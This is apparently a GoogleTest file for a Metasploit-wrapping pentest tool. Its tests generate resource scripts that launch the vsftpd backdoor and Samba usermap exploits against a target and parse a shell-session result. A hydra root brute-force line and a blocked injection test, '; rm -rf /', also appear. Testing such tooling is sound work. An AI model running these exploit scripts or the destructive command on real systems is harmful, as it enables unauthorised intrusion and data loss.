/**
 * @file test_resource_script_runner.cpp
 * @brief Tests for console resource script generation and execution
 */

#include "redeyes/integrations/resource_script_runner.hpp"
#include "test_helpers.hpp"

#include <gtest/gtest.h>

using namespace redeyes::integrations;
using redeyes::core::SafeExecutor;
using redeyes::testing::ReadFile;
using redeyes::testing::TempDir;

TEST(ResourceScriptRunnerTest, RecognizesFrameworkCommands) {
    EXPECT_TRUE(ResourceScriptRunner::IsFrameworkCommand("use exploit/unix/ftp/vsftpd_234_backdoor"));
    EXPECT_TRUE(ResourceScriptRunner::IsFrameworkCommand("msfconsole # Metasploit module"));
    EXPECT_FALSE(ResourceScriptRunner::IsFrameworkCommand("hydra -l root ssh://10.0.0.5"));
}

TEST(ResourceScriptRunnerTest, ModuleScriptSetsTargetAndRuns) {
    SafeExecutor executor;
    ResourceScriptRunner::Config config;
    config.lhost = "192.168.56.1";
    ResourceScriptRunner runner(executor, config);

    auto script = runner.GenerateScript("use exploit/unix/ftp/vsftpd_234_backdoor", "10.0.0.5");
    EXPECT_EQ(script,
              "use exploit/unix/ftp/vsftpd_234_backdoor\n"
              "set RHOSTS 10.0.0.5\n"
              "set LHOST 192.168.56.1\n"
              "check\n"
              "exploit -j\n"
              "exit\n");
}

TEST(ResourceScriptRunnerTest, PlainCommandScriptOnlyExits) {
    SafeExecutor executor;
    ResourceScriptRunner runner(executor, ResourceScriptRunner::Config{});

    EXPECT_EQ(runner.GenerateScript("db_status", "10.0.0.5"), "db_status\nexit\n");
}

TEST(ResourceScriptRunnerTest, ParsesConsoleOutput) {
    auto outcome = ResourceScriptRunner::ParseOutput(
        "[*] 10.0.0.5:21 - The target appears to be vulnerable.\n"
        "[-] 10.0.0.5:21 - Handler failed to bind\n"
        "[*] Command shell session 1 opened (10.0.0.1:4444 -> 10.0.0.5:6200)\n");

    EXPECT_TRUE(outcome.target_vulnerable);
    ASSERT_EQ(outcome.sessions.size(), 1u);
    EXPECT_NE(outcome.sessions[0].find("session 1 opened"), std::string::npos);
    ASSERT_EQ(outcome.errors.size(), 1u);
}

TEST(ResourceScriptRunnerTest, RunWritesScriptAndInvokesConsole) {
    TempDir dir;
    SafeExecutor executor;
    ResourceScriptRunner::Config config;
    config.console_binary = "echo";
    config.timeout = std::chrono::seconds(10);
    ResourceScriptRunner runner(executor, config);

    auto result = runner.Run("use exploit/multi/samba/usermap_script", "10.0.0.5", dir.Path());

    EXPECT_TRUE(result.envelope.success);
    ASSERT_TRUE(std::filesystem::exists(result.script_path));
    EXPECT_EQ(result.script_path.extension(), ".rc");
    EXPECT_NE(ReadFile(result.script_path).find("set RHOSTS 10.0.0.5"), std::string::npos);
    // echo prints its arguments: "-r <script> -q"
    EXPECT_NE(result.envelope.stdout_output.find(result.script_path.string()), std::string::npos);
}

TEST(ResourceScriptRunnerTest, BlockedCommandIsNotScripted) {
    TempDir dir;
    SafeExecutor executor;
    ResourceScriptRunner runner(executor, ResourceScriptRunner::Config{});

    auto result = runner.Run("use post/multi/manage/shell; rm -rf /", "10.0.0.5", dir.Path());

    EXPECT_EQ(result.envelope.exit_code, redeyes::core::kExitBlocked);
    EXPECT_TRUE(std::filesystem::is_empty(dir.Path()));
}
